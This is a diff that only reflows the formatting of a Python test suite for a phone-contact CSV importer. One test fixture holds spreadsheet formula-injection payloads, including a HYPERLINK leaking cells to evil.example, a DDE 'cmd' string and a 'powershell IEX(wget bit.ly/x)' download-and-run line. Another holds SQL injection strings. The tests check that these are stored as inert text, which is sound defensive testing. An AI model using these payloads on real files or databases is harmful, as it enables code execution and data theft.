@@ -103,7 +103,8 @@ def snapshot(db_path: Path) -> dict[str, list[tuple]]:
     conn = sqlite3.connect(db_path)
     try:
         tables = [
-            name for (name,) in conn.execute(
+            name
+            for (name,) in conn.execute(
                 "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name"
             )
         ]
@@ -209,14 +210,16 @@ def zip_bytes(entries: dict[str, str], first_stored: tuple[str, str] | None = No
     return buffer.getvalue()
 
 
-XLSX = zip_bytes({
-    "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
-                           'content-types"><Override PartName="/xl/workbook.xml"/></Types>',
-    "_rels/.rels": '<?xml version="1.0"?><Relationships/>',
-    "xl/workbook.xml": '<?xml version="1.0"?><workbook><sheets><sheet name="Contacts"/></sheets></workbook>',
-    "xl/worksheets/sheet1.xml": '<?xml version="1.0"?><worksheet><sheetData><row><c t="inlineStr"><is><t>phone'
-                                "</t></is></c></row><row><c><v>2125550147</v></c></row></sheetData></worksheet>",
-})
+XLSX = zip_bytes(
+    {
+        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+        'content-types"><Override PartName="/xl/workbook.xml"/></Types>',
+        "_rels/.rels": '<?xml version="1.0"?><Relationships/>',
+        "xl/workbook.xml": '<?xml version="1.0"?><workbook><sheets><sheet name="Contacts"/></sheets></workbook>',
+        "xl/worksheets/sheet1.xml": '<?xml version="1.0"?><worksheet><sheetData><row><c t="inlineStr"><is><t>phone'
+        "</t></is></c></row><row><c><v>2125550147</v></c></row></sheetData></worksheet>",
+    }
+)
 PLAIN_ZIP = zip_bytes({"contacts.csv": "phone,name\n2125550147,Ann\n" * 50})
 ODS = zip_bytes(
     {"content.xml": "<office:document-content><table:table-cell>phone</table:table-cell></office:document-content>"},
@@ -230,17 +233,26 @@ PDF = (
 )
 JPEG = (
     b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
-    + b"\xff\xdb\x00\x43\x00" + bytes(range(64))
-    + random.Random(7).randbytes(600) + b"\xff\xd9"
+    + b"\xff\xdb\x00\x43\x00"
+    + bytes(range(64))
+    + random.Random(7).randbytes(600)
+    + b"\xff\xd9"
 )
 GIF = (
     b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00"
     b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
 )
 OLE_XLS = (
-    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff\x09\x00\x06\x00"
-    + bytes(10) + b"\x01\x00\x00\x00" + bytes(8) + b"\x00\x10\x00\x00" + b"\xff" * 436
-    + "Workbook".encode("utf-16-le") + bytes(3000)
+    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+    + bytes(16)
+    + b"\x3e\x00\x03\x00\xfe\xff\x09\x00\x06\x00"
+    + bytes(10)
+    + b"\x01\x00\x00\x00"
+    + bytes(8)
+    + b"\x00\x10\x00\x00"
+    + b"\xff" * 436
+    + "Workbook".encode("utf-16-le")
+    + bytes(3000)
 )
 RANDOM_BYTES = random.Random(1234).randbytes(8192)
 ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(4000)
@@ -289,8 +301,11 @@ def fifty_mb_field(directory: Path) -> Path:
 
 
 def check_fifty_mb_note(result, db_path, campaign_id):
-    (row,) = query(db_path, "SELECT variables FROM contact WHERE campaign_id = ? AND phone_number = ?",
-                   (campaign_id, "+12125550161"))
+    (row,) = query(
+        db_path,
+        "SELECT variables FROM contact WHERE campaign_id = ? AND phone_number = ?",
+        (campaign_id, "+12125550161"),
+    )
     assert json.loads(row["variables"]) == {"notes": FIFTY_MB_NOTE}
 
 
@@ -396,8 +411,9 @@ def check_long_phone_errors(result, db_path, campaign_id):
 
 
 def check_formulas_as_text(result, db_path, campaign_id):
-    rows = query(db_path, "SELECT name, email, company, variables FROM contact WHERE import_run_id = ?",
-                 (result.import_id,))
+    rows = query(
+        db_path, "SELECT name, email, company, variables FROM contact WHERE import_run_id = ?", (result.import_id,)
+    )
     text = json.dumps(rows, ensure_ascii=False)
     assert "HYPERLINK" in text and "'+cmd" not in text  # kept as typed: no apostrophe, no evaluation
 
@@ -438,44 +454,59 @@ CASES: list[Case] = [
     Case("pdf", PDF, Rejected(("pdf", "export the contacts as csv")), name="contacts.pdf"),
     Case("jpeg", JPEG, Rejected(("not a csv", "jpeg image")), name="contacts.jpg"),
     Case("gif", GIF, Rejected(("not a csv", "gif image")), name="contacts.gif"),
-    Case("old_xls_ole_header", OLE_XLS, Rejected(("old-style excel workbook (.xls)", "save it as csv")),
-         name="contacts.xls"),
+    Case(
+        "old_xls_ole_header",
+        OLE_XLS,
+        Rejected(("old-style excel workbook (.xls)", "save it as csv")),
+        name="contacts.xls",
+    ),
     Case("random_bytes", RANDOM_BYTES, Rejected(("binary file, not a csv",))),
     Case("elf_executable", ELF, Rejected(("binary file, not a csv",))),
     Case("gzip_compressed", GZIP, Rejected(("binary file, not a csv",)), name="contacts.csv.gz"),
-    Case("dev_zero_never_ends", lambda d: Path("/dev/zero"), Rejected(("binary file, not a csv",)),
-         platform="linux"),
+    Case("dev_zero_never_ends", lambda d: Path("/dev/zero"), Rejected(("binary file, not a csv",)), platform="linux"),
     # ---- encodings
     Case(
         "invalid_utf8_in_the_middle",
         lines("phone,name,city", "2125550110,Zoë Ünal,Zürich", "2125550111,José Núñez,São Paulo")
         + b"2125550112,Bad \xff\xfe Byte,K\xc3\xb6ln\n2125550113,Half \xed\xa0\x80 Surrogate,x\n"
         + lines("2125550114,李小龍,東京"),
-        Imported(5, warnings=("not valid utf-8",), stored={
-            "+12125550110": {"name": "Zoë Ünal", "variables": {"city": "Zürich"}},
-            "+12125550112": {"name": "Bad ÿþ Byte", "variables": {"city": "Köln"}},
-            "+12125550114": {"name": "李小龍", "variables": {"city": "東京"}},
-        }),
+        Imported(
+            5,
+            warnings=("not valid utf-8",),
+            stored={
+                "+12125550110": {"name": "Zoë Ünal", "variables": {"city": "Zürich"}},
+                "+12125550112": {"name": "Bad ÿþ Byte", "variables": {"city": "Köln"}},
+                "+12125550114": {"name": "李小龍", "variables": {"city": "東京"}},
+            },
+        ),
     ),
     Case(
         "invalid_utf8_after_first_64kb",
         after_64k,
-        Imported(2004, warnings=("not valid utf-8",), stored={
-            "+12125550111": {"name": "José Núñez"},
-            "+12125550112": {"name": "Café Renée"},
-            "+12125550113": {"name": "Zoë Again"},
-        }),
+        Imported(
+            2004,
+            warnings=("not valid utf-8",),
+            stored={
+                "+12125550111": {"name": "José Núñez"},
+                "+12125550112": {"name": "Café Renée"},
+                "+12125550113": {"name": "Zoë Again"},
+            },
+        ),
     ),
     Case(
         "mixed_utf8_and_cp1252_rows",
         lines("phone,name", "2125550115,Zoë Ünal", "2125550116,José Núñez", "2125550117,北京 Li")
         + b"2125550118,M\xfcller\n2125550119,Ren\xe9e \x80uro\n",
-        Imported(5, warnings=("windows-1252",), stored={
-            "+12125550115": {"name": "Zoë Ünal"},
-            "+12125550117": {"name": "北京 Li"},
-            "+12125550118": {"name": "Müller"},
-            "+12125550119": {"name": "Renée €uro"},
-        }),
+        Imported(
+            5,
+            warnings=("windows-1252",),
+            stored={
+                "+12125550115": {"name": "Zoë Ünal"},
+                "+12125550117": {"name": "北京 Li"},
+                "+12125550118": {"name": "Müller"},
+                "+12125550119": {"name": "Renée €uro"},
+            },
+        ),
     ),
     Case(
         "cp1252_only",
@@ -485,14 +516,18 @@ CASES: list[Case] = [
     Case(
         "nul_bytes_everywhere",
         b"ph\x00one,na\x00me\n212555\x000121,A\x00nn\n\x00\x00\n2125550122,Bob\x00\x00\n\x00",
-        Imported(2, stored={"+12125550121": {"name": "Ann", "phone_raw": "2125550121"},
-                            "+12125550122": {"name": "Bob"}}),
+        Imported(
+            2, stored={"+12125550121": {"name": "Ann", "phone_raw": "2125550121"}, "+12125550122": {"name": "Bob"}}
+        ),
     ),
     Case(
         "utf16_le_without_bom",
         "phone,name\r\n2125550123,Ünal\r\n2125550124,李\r\n".encode("utf-16-le"),
-        Imported(2, warnings=("no byte order mark",), stored={"+12125550123": {"name": "Ünal"},
-                                                              "+12125550124": {"name": "李"}}),
+        Imported(
+            2,
+            warnings=("no byte order mark",),
+            stored={"+12125550123": {"name": "Ünal"}, "+12125550124": {"name": "李"}},
+        ),
     ),
     Case(
         "utf16_be_without_bom",
@@ -506,7 +541,9 @@ CASES: list[Case] = [
     ),
     Case(
         "utf16_lone_surrogate_and_odd_length",
-        "phone,name\n2125550127,Ann\n".encode("utf-16-le") + b"\x00\xd8" + "X\n2125550128,B\n".encode("utf-16-le")
+        "phone,name\n2125550127,Ann\n".encode("utf-16-le")
+        + b"\x00\xd8"
+        + "X\n2125550128,B\n".encode("utf-16-le")
         + b"A",
         Imported(2, invalid=2, warnings=("utf-16",), stored={"+12125550127": {"name": "Ann"}}),
     ),
@@ -534,17 +571,31 @@ CASES: list[Case] = [
     Case(
         "unicode_line_separators_inside_values",
         lines("phone,name", "2125550138,Ann\u2028Lee", "2125550139,B\u0085c\x0bd\x0ce\u2029f\x1cg\x1dh\x1ei"),
-        Imported(2, stored={"+12125550138": {"name": "Ann\u2028Lee"},
-                            "+12125550139": {"name": "B\u0085c\x0bd\x0ce\u2029f\x1cg\x1dh\x1ei"}}),
+        Imported(
+            2,
+            stored={
+                "+12125550138": {"name": "Ann\u2028Lee"},
+                "+12125550139": {"name": "B\u0085c\x0bd\x0ce\u2029f\x1cg\x1dh\x1ei"},
+            },
+        ),
     ),
     Case(
         "quoted_newlines_delimiters_and_quotes",
-        lines('phone,name,notes', '2125550140,"Lee, Ann ""Annie""","line one\nline two, still\r\nthree"',
-              '2125550141,Stray "quote" inside,x'),
-        Imported(2, stored={
-            "+12125550140": {"name": 'Lee, Ann "Annie"', "variables": {"notes": "line one\nline two, still\r\nthree"}},
-            "+12125550141": {"name": 'Stray "quote" inside'},
-        }),
+        lines(
+            "phone,name,notes",
+            '2125550140,"Lee, Ann ""Annie""","line one\nline two, still\r\nthree"',
+            '2125550141,Stray "quote" inside,x',
+        ),
+        Imported(
+            2,
+            stored={
+                "+12125550140": {
+                    "name": 'Lee, Ann "Annie"',
+                    "variables": {"notes": "line one\nline two, still\r\nthree"},
+                },
+                "+12125550141": {"name": 'Stray "quote" inside'},
+            },
+        ),
     ),
     Case(
         "unclosed_quote_early",
@@ -554,13 +605,23 @@ CASES: list[Case] = [
     Case("unclosed_quote_late", unclosed_quote_late, Rejected(("row 5002", "never closed"))),
     Case(
         "ragged_rows",
-        lines("phone,name,email,company", "2125550145,Short", "2125550146,Long,l@example.com,Co,extra1,extra2",
-              "2125550147", ",,,,", "2125550148,Full,f@example.com,FullCo"),
-        Imported(4, warnings=("more values than there are columns",), stored={
-            "+12125550145": {"name": "Short", "email": "", "company": ""},
-            "+12125550146": {"name": "Long", "email": "l@example.com", "company": "Co"},
-            "+12125550148": {"company": "FullCo", "source_row": 6},
-        }),
+        lines(
+            "phone,name,email,company",
+            "2125550145,Short",
+            "2125550146,Long,l@example.com,Co,extra1,extra2",
+            "2125550147",
+            ",,,,",
+            "2125550148,Full,f@example.com,FullCo",
+        ),
+        Imported(
+            4,
+            warnings=("more values than there are columns",),
+            stored={
+                "+12125550145": {"name": "Short", "email": "", "company": ""},
+                "+12125550146": {"name": "Long", "email": "l@example.com", "company": "Co"},
+                "+12125550148": {"company": "FullCo", "source_row": 6},
+            },
+        ),
     ),
     Case(
         "ragged_row_after_the_preview",
@@ -570,10 +631,17 @@ CASES: list[Case] = [
     Case(
         "duplicate_headers",
         lines("Phone,Name,name,PHONE,Email,email", "2125550149,First,Second,2125550199,a@example.com,b@example.com"),
-        Imported(1, warnings=("same name as an earlier column",), stored={"+12125550149": {
-            "name": "First", "email": "a@example.com",
-            "variables": {"name_2": "Second", "PHONE_2": "2125550199", "email_2": "b@example.com"},
-        }}),
+        Imported(
+            1,
+            warnings=("same name as an earlier column",),
+            stored={
+                "+12125550149": {
+                    "name": "First",
+                    "email": "a@example.com",
+                    "variables": {"name_2": "Second", "PHONE_2": "2125550199", "email_2": "b@example.com"},
+                }
+            },
+        ),
     ),
     Case(
         "header_with_5000_empty_names",
@@ -598,8 +666,12 @@ CASES: list[Case] = [
     ),
     Case(
         "row_with_1000000_commas",
-        lines("phone,name", "2125550154,Ann" + "," * 1_000_000, "2125550155,Bob",
-              "2125550156,Cy" + "," * 1_000_000 + "tail"),
+        lines(
+            "phone,name",
+            "2125550154,Ann" + "," * 1_000_000,
+            "2125550155,Bob",
+            "2125550156,Cy" + "," * 1_000_000 + "tail",
+        ),
         Imported(3, warnings=("more values than there are columns",), stored={"+12125550154": {"name": "Ann"}}),
     ),
     Case(
@@ -629,8 +701,11 @@ CASES: list[Case] = [
     ),
     Case(
         "html_page",
-        lines("<!DOCTYPE html>", "<html><head><title>Contacts</title></head>",
-              "<body><table><tr><td>phone</td></tr><tr><td>2125550159</td></tr></table></body></html>"),
+        lines(
+            "<!DOCTYPE html>",
+            "<html><head><title>Contacts</title></head>",
+            "<body><table><tr><td>phone</td></tr><tr><td>2125550159</td></tr></table></body></html>",
+        ),
         Rejected(("no phone number column",)),
         name="contacts.html",
     ),
@@ -646,22 +721,29 @@ CASES: list[Case] = [
             'phone,name,email,company,notes,"=SUM(A1:A9)"',
             '2125550165,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",=1+1@x.example,'
             "+cmd|' /C calc'!A0,-2+3,@SUM(1+1)*cmd|' /C calc'!A0",
-            '2125550166,@SUM(A1:A9),"=cmd|\'/C powershell IEX(wget bit.ly/x)\'!A0",-10,'
+            "2125550166,@SUM(A1:A9),\"=cmd|'/C powershell IEX(wget bit.ly/x)'!A0\",-10,"
             '"=IMPORTXML(CONCAT(""http://x.example/?"",A1),""//a"")",+1',
             "=2125550167,=Formula Phone,,,,",
         ),
-        Imported(3, check=check_formulas_as_text, stored={
-            "+12125550165": {
-                "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "email": "=1+1@x.example",
-                "company": "+cmd|' /C calc'!A0",
-                "variables": {"notes": "-2+3", "=SUM(A1:A9)": "@SUM(1+1)*cmd|' /C calc'!A0"},
+        Imported(
+            3,
+            check=check_formulas_as_text,
+            stored={
+                "+12125550165": {
+                    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+                    "email": "=1+1@x.example",
+                    "company": "+cmd|' /C calc'!A0",
+                    "variables": {"notes": "-2+3", "=SUM(A1:A9)": "@SUM(1+1)*cmd|' /C calc'!A0"},
+                },
+                "+12125550166": {
+                    "name": "@SUM(A1:A9)",
+                    "email": "=cmd|'/C powershell IEX(wget bit.ly/x)'!A0",
+                    "company": "-10",
+                    "variables": {"notes": '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")', "=SUM(A1:A9)": "+1"},
+                },
+                "+12125550167": {"name": "=Formula Phone", "phone_raw": "=2125550167"},
             },
-            "+12125550166": {
-                "name": "@SUM(A1:A9)", "email": "=cmd|'/C powershell IEX(wget bit.ly/x)'!A0", "company": "-10",
-                "variables": {"notes": '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")', "=SUM(A1:A9)": "+1"},
-            },
-            "+12125550167": {"name": "=Formula Phone", "phone_raw": "=2125550167"},
-        }),
+        ),
     ),
     Case(
         "emoji_rtl_and_combining_names",
@@ -674,34 +756,44 @@ CASES: list[Case] = [
             "2125550172,Z\u0337\u0322\u034e\u0344a\u0335\u0321\u031bl\u0337g\u0336o\u0338,,",
             "2125550173,\u202eevil\u202c name,zero\u200bwidth\u200djoin,",
         ),
-        Imported(6, stored={
-            "+12125550168": {"name": "👩🏽‍💻 Zoë 🇺🇸", "company": "🏢 Co",
-                             "variables": {"ملاحظات": "😀"}},
-            "+12125550169": {"name": "محمد عبد الله", "company": "شركة النور",
-                             "variables": {"ملاحظات": "\u200fملاحظة"}},
-            "+12125550170": {"name": "שָׁלוֹם כֹּהֵן", "company": "חברה"},
-            "+12125550171": {"name": "Zoe\u0308 Ame\u0301lie"},  # decomposed, not normalized to NFC
-            "+12125550172": {"name": "Z\u0337\u0322\u034e\u0344a\u0335\u0321\u031bl\u0337g\u0336o\u0338"},
-            "+12125550173": {"name": "\u202eevil\u202c name", "company": "zero\u200bwidth\u200djoin"},
-        }),
+        Imported(
+            6,
+            stored={
+                "+12125550168": {"name": "👩🏽‍💻 Zoë 🇺🇸", "company": "🏢 Co", "variables": {"ملاحظات": "😀"}},
+                "+12125550169": {
+                    "name": "محمد عبد الله",
+                    "company": "شركة النور",
+                    "variables": {"ملاحظات": "\u200fملاحظة"},
+                },
+                "+12125550170": {"name": "שָׁלוֹם כֹּהֵן", "company": "חברה"},
+                "+12125550171": {"name": "Zoe\u0308 Ame\u0301lie"},  # decomposed, not normalized to NFC
+                "+12125550172": {"name": "Z\u0337\u0322\u034e\u0344a\u0335\u0321\u031bl\u0337g\u0336o\u0338"},
+                "+12125550173": {"name": "\u202eevil\u202c name", "company": "zero\u200bwidth\u200djoin"},
+            },
+        ),
     ),
     Case(
         "sql_looking_text_stored_verbatim",
         lines(
-            "phone,name,email,company,\"note'); DROP TABLE import_run;--\"",
+            'phone,name,email,company,"note\'); DROP TABLE import_run;--"',
             "2125550174,\"Robert'); DROP TABLE contact;--\",x' OR '1'='1,\"'; DELETE FROM campaign; --\","
             "\"1; UPDATE contact SET status='completed'\"",
             '2125550175,"Robert"" OR 1=1 --",%_\\,"\\0 \\x00",',
         ),
-        Imported(2, check=check_sql_text, stored={
-            "+12125550174": {
-                "name": "Robert'); DROP TABLE contact;--", "email": "x' OR '1'='1",
-                "company": "'; DELETE FROM campaign; --",
-                "variables": {"note'); DROP TABLE import_run;--": "1; UPDATE contact SET status='completed'"},
-                "status": "pending",
+        Imported(
+            2,
+            check=check_sql_text,
+            stored={
+                "+12125550174": {
+                    "name": "Robert'); DROP TABLE contact;--",
+                    "email": "x' OR '1'='1",
+                    "company": "'; DELETE FROM campaign; --",
+                    "variables": {"note'); DROP TABLE import_run;--": "1; UPDATE contact SET status='completed'"},
+                    "status": "pending",
+                },
+                "+12125550175": {"name": 'Robert" OR 1=1 --', "email": "%_\\", "company": "\\0 \\x00"},
             },
-            "+12125550175": {"name": 'Robert" OR 1=1 --', "email": "%_\\", "company": "\\0 \\x00"},
-        }),
+        ),
         name="Robert'); DROP TABLE contact;--.csv",
     ),
     Case(
@@ -721,18 +813,36 @@ CASES: list[Case] = [
     ),
     Case(
         "thirty_thousand_invalid_rows",
-        lambda d: build_text("many_invalid.csv", lambda: "phone,name\n2125550182,Only good one\n"
-                             + "".join(f"n/a {i},x\n" for i in range(20_000))
-                             + "".join(f"555-{i % 10_000:04d},local\n" for i in range(10_000)))(d),
-        Imported(1, invalid=30_000, reasons=("too short",), check=lambda r, db, cid: (
-            len(r.errors) == 1000 and r.error_count == 30_000 and r.errors[0].row == 3
-        ) or pytest.fail(f"{len(r.errors)} errors listed, error_count {r.error_count}")),
+        lambda d: build_text(
+            "many_invalid.csv",
+            lambda: (
+                "phone,name\n2125550182,Only good one\n"
+                + "".join(f"n/a {i},x\n" for i in range(20_000))
+                + "".join(f"555-{i % 10_000:04d},local\n" for i in range(10_000))
+            ),
+        )(d),
+        Imported(
+            1,
+            invalid=30_000,
+            reasons=("too short",),
+            check=lambda r, db, cid: (
+                (len(r.errors) == 1000 and r.error_count == 30_000 and r.errors[0].row == 3)
+                or pytest.fail(f"{len(r.errors)} errors listed, error_count {r.error_count}")
+            ),
+        ),
         limit=5.0,  # 30,000 rows through the phone parser
     ),
     Case(
         "spreadsheet_damage_among_valid",
-        lines("phone,name", "5.55E+09,Sci", "2.12555E+09,Sci2", "2125550176.0,Float", "1.21255501E10,Sci3",
-              "2125550177,Good", '"2,125,550,178.00",Thousands'),
+        lines(
+            "phone,name",
+            "5.55E+09,Sci",
+            "2.12555E+09,Sci2",
+            "2125550176.0,Float",
+            "1.21255501E10,Sci3",
+            "2125550177,Good",
+            '"2,125,550,178.00",Thousands',
+        ),
         Imported(1, invalid=5, reasons=("scientific notation", "trailing .0")),
     ),
     Case(
@@ -743,8 +853,7 @@ CASES: list[Case] = [
     Case(
         "unicode_digit_phones",
         lines("phone,name", "٢١٢٥٥٥٠١٧٩,Arabic-Indic", "２１２５５５０１８０,Fullwidth"),
-        Imported(2, stored={"+12125550179": {"phone_raw": "٢١٢٥٥٥٠١٧٩"},
-                            "+12125550180": {"name": "Fullwidth"}}),
+        Imported(2, stored={"+12125550179": {"phone_raw": "٢١٢٥٥٥٠١٧٩"}, "+12125550180": {"name": "Fullwidth"}}),
     ),
     Case(
         "extension_kept",
@@ -754,24 +863,44 @@ CASES: list[Case] = [
     # ---- duplicates and the campaign's history
     Case(
         "every_number_is_call_history",
-        lines("phone,name", "(212) 555-0101,Again A", "+1 212 555 0102,Again B", "1-212-555-0103,Again C",
-              "212.555.0101,Again A2"),
-        Imported(0, skipped=4, check=lambda r, db, cid: (
-            r.duplicates_in_campaign == 4 and r.duplicates_in_file == 0 and r.total_contacts == 3
-        ) or pytest.fail(f"counts: {r}")),
+        lines(
+            "phone,name",
+            "(212) 555-0101,Again A",
+            "+1 212 555 0102,Again B",
+            "1-212-555-0103,Again C",
+            "212.555.0101,Again A2",
+        ),
+        Imported(
+            0,
+            skipped=4,
+            check=lambda r, db, cid: (
+                (r.duplicates_in_campaign == 4 and r.duplicates_in_file == 0 and r.total_contacts == 3)
+                or pytest.fail(f"counts: {r}")
+            ),
+        ),
     ),
     Case(
         "seed_pending_numbers_come_back_as_new_rows",
         lines("phone,name", "2125550105,Pending E New", "2125550104,Skipped D New", "2125550101,History"),
-        Imported(2, skipped=1, stored={"+12125550105": {"name": "Pending E New", "status": "pending"},
-                                       "+12125550104": {"name": "Skipped D New", "status": "pending"},
-                                       "+12125550101": {"name": "Hist Completed A", "status": "completed"}}),
+        Imported(
+            2,
+            skipped=1,
+            stored={
+                "+12125550105": {"name": "Pending E New", "status": "pending"},
+                "+12125550104": {"name": "Skipped D New", "status": "pending"},
+                "+12125550101": {"name": "Hist Completed A", "status": "completed"},
+            },
+        ),
     ),
     Case(
         "same_number_100000_times",
         same_number_100k,
-        Imported(1, skipped=99_999, stored={"+12125550150": {"name": "Copy 0", "source_row": 2}},
-                 check=lambda r, db, cid: r.duplicates_in_file == 99_999 or pytest.fail(f"{r}")),
+        Imported(
+            1,
+            skipped=99_999,
+            stored={"+12125550150": {"name": "Copy 0", "source_row": 2}},
+            check=lambda r, db, cid: r.duplicates_in_file == 99_999 or pytest.fail(f"{r}"),
+        ),
         limit=5.0,  # 100,000 rows: ~1 s when linear; a quadratic step would take minutes
     ),
     Case(
@@ -782,61 +911,152 @@ CASES: list[Case] = [
     ),
     # ---- column mappings
     Case("mapping_empty_string_means_auto", MAPPING_FILE, MAPPING_AUTO, mapping=""),
-    Case("mapping_case_and_space_in_target", MAPPING_FILE, MAPPING_OK,
-         mapping='{"mobile": " PHONE_NUMBER ", "WHO": "Name"}'),
+    Case(
+        "mapping_case_and_space_in_target",
+        MAPPING_FILE,
+        MAPPING_OK,
+        mapping='{"mobile": " PHONE_NUMBER ", "WHO": "Name"}',
+    ),
     Case("mapping_5mb_of_whitespace", MAPPING_FILE, MAPPING_OK, mapping=mapping_5mb_padded),
-    Case("mapping_5mb_of_unknown_columns", MAPPING_FILE,
-         Rejected(("names a column the file does not have", "'column number 0'", "'mobile'")),
-         mapping=mapping_5mb_unknown_columns),
-    Case("mapping_5000_unknown_columns", MAPPING_FILE,
-         Rejected(("names a column the file does not have",)),
-         mapping=lambda: json.dumps({f"Column {i}": "name" for i in range(5000)})),
-    Case("mapping_5mb_key", MAPPING_FILE, Rejected(("names a column the file does not have",)),
-         mapping=lambda: json.dumps({"k" * (5 * MB): "phone_number"})),
-    Case("mapping_5mb_target", MAPPING_FILE, Rejected(("unknown target for column 'notes'", "1 to 64 characters")),
-         mapping=lambda: json.dumps({"Notes": "v" * (5 * MB)})),
-    Case("mapping_100000_nested_arrays", MAPPING_FILE, Rejected(("column mapping", "nested too deeply")),
-         mapping=lambda: "[" * 100_000 + "]" * 100_000),
-    Case("mapping_100000_nested_objects", MAPPING_FILE, Rejected(("column mapping", "nested too deeply")),
-         mapping=lambda: '{"a":' * 100_000 + "1" + "}" * 100_000),
-    Case("mapping_nested_target", MAPPING_FILE, Rejected(("unknown target for column 'mobile'",)),
-         mapping=lambda: '{"Mobile": ' + "[" * 500 + "]" * 500 + "}"),
-    Case("mapping_not_json", MAPPING_FILE, Rejected(("column mapping is not valid json",)),
-         mapping="{'Mobile': 'phone_number'}"),
-    Case("mapping_json_with_nul", MAPPING_FILE, Rejected(("column mapping is not valid json",)),
-         mapping='{"Mobile": "phone_number"}\x00'),
-    Case("mapping_is_a_list", MAPPING_FILE, Rejected(("must be a json object",)),
-         mapping='[["Mobile", "phone_number"]]'),
+    Case(
+        "mapping_5mb_of_unknown_columns",
+        MAPPING_FILE,
+        Rejected(("names a column the file does not have", "'column number 0'", "'mobile'")),
+        mapping=mapping_5mb_unknown_columns,
+    ),
+    Case(
+        "mapping_5000_unknown_columns",
+        MAPPING_FILE,
+        Rejected(("names a column the file does not have",)),
+        mapping=lambda: json.dumps({f"Column {i}": "name" for i in range(5000)}),
+    ),
+    Case(
+        "mapping_5mb_key",
+        MAPPING_FILE,
+        Rejected(("names a column the file does not have",)),
+        mapping=lambda: json.dumps({"k" * (5 * MB): "phone_number"}),
+    ),
+    Case(
+        "mapping_5mb_target",
+        MAPPING_FILE,
+        Rejected(("unknown target for column 'notes'", "1 to 64 characters")),
+        mapping=lambda: json.dumps({"Notes": "v" * (5 * MB)}),
+    ),
+    Case(
+        "mapping_100000_nested_arrays",
+        MAPPING_FILE,
+        Rejected(("column mapping", "nested too deeply")),
+        mapping=lambda: "[" * 100_000 + "]" * 100_000,
+    ),
+    Case(
+        "mapping_100000_nested_objects",
+        MAPPING_FILE,
+        Rejected(("column mapping", "nested too deeply")),
+        mapping=lambda: '{"a":' * 100_000 + "1" + "}" * 100_000,
+    ),
+    Case(
+        "mapping_nested_target",
+        MAPPING_FILE,
+        Rejected(("unknown target for column 'mobile'",)),
+        mapping=lambda: '{"Mobile": ' + "[" * 500 + "]" * 500 + "}",
+    ),
+    Case(
+        "mapping_not_json",
+        MAPPING_FILE,
+        Rejected(("column mapping is not valid json",)),
+        mapping="{'Mobile': 'phone_number'}",
+    ),
+    Case(
+        "mapping_json_with_nul",
+        MAPPING_FILE,
+        Rejected(("column mapping is not valid json",)),
+        mapping='{"Mobile": "phone_number"}\x00',
+    ),
+    Case(
+        "mapping_is_a_list", MAPPING_FILE, Rejected(("must be a json object",)), mapping='[["Mobile", "phone_number"]]'
+    ),
     Case("mapping_is_a_string", MAPPING_FILE, Rejected(("must be a json object",)), mapping='"Mobile"'),
     Case("mapping_is_a_number", MAPPING_FILE, Rejected(("must be a json object",)), mapping="42"),
     Case("mapping_is_null", MAPPING_FILE, Rejected(("must be a json object",)), mapping="null"),
     Case("mapping_is_true", MAPPING_FILE, Rejected(("must be a json object",)), mapping="true"),
-    Case("mapping_target_number", MAPPING_FILE, Rejected(("unknown target for column 'mobile'", "phone_number")),
-         mapping='{"Mobile": 1}'),
-    Case("mapping_target_boolean", MAPPING_FILE, Rejected(("unknown target for column 'mobile'",)),
-         mapping='{"Mobile": true}'),
-    Case("mapping_target_list", MAPPING_FILE, Rejected(("unknown target for column 'mobile'",)),
-         mapping='{"Mobile": ["phone_number"]}'),
-    Case("mapping_target_object", MAPPING_FILE, Rejected(("unknown target for column 'mobile'",)),
-         mapping='{"Mobile": {"field": "phone_number"}}'),
-    Case("mapping_target_with_braces", MAPPING_FILE, Rejected(("unknown target for column 'notes'", "braces")),
-         mapping='{"Notes": "{{notes}}"}'),
-    Case("mapping_target_with_control_chars", MAPPING_FILE, Rejected(("unknown target for column 'notes'",)),
-         mapping='{"Notes": "tab\\there"}'),
-    Case("mapping_two_phone_columns", MAPPING_FILE, Rejected(("two columns are mapped to phone_number",)),
-         mapping='{"Mobile": "phone_number", "Who": "phone_number"}'),
-    Case("mapping_ignores_the_phone_column", MAPPING_FILE, Rejected(("no phone number column",)),
-         mapping='{"Mobile": null}'),
-    Case("mapping_sql_column_name", MAPPING_FILE, Rejected(("names a column the file does not have", "drop table")),
-         mapping='{"Mobile\'); DROP TABLE contact;--": "phone_number"}'),
-    Case("mapping_5000_digit_number", MAPPING_FILE, Rejected(("column mapping",)),
-         mapping=lambda: '{"Mobile": 1' + "0" * 5000 + "}"),
-    Case("mapping_python_set_target", MAPPING_FILE, Rejected(("unknown target for column 'mobile'",)),
-         mapping=lambda: {"Mobile": {"phone_number"}}),
-    Case("mapping_python_bytes_target", MAPPING_FILE, Rejected(("unknown target for column 'mobile'",)),
-         mapping=lambda: {"Mobile": b"phone_number"}),
-    Case("mapping_python_100000_nested_lists", MAPPING_FILE, Rejected(("unknown target for column 'mobile'",)),
-         mapping=deeply_nested_python_list),
+    Case(
+        "mapping_target_number",
+        MAPPING_FILE,
+        Rejected(("unknown target for column 'mobile'", "phone_number")),
+        mapping='{"Mobile": 1}',
+    ),
+    Case(
+        "mapping_target_boolean",
+        MAPPING_FILE,
+        Rejected(("unknown target for column 'mobile'",)),
+        mapping='{"Mobile": true}',
+    ),
+    Case(
+        "mapping_target_list",
+        MAPPING_FILE,
+        Rejected(("unknown target for column 'mobile'",)),
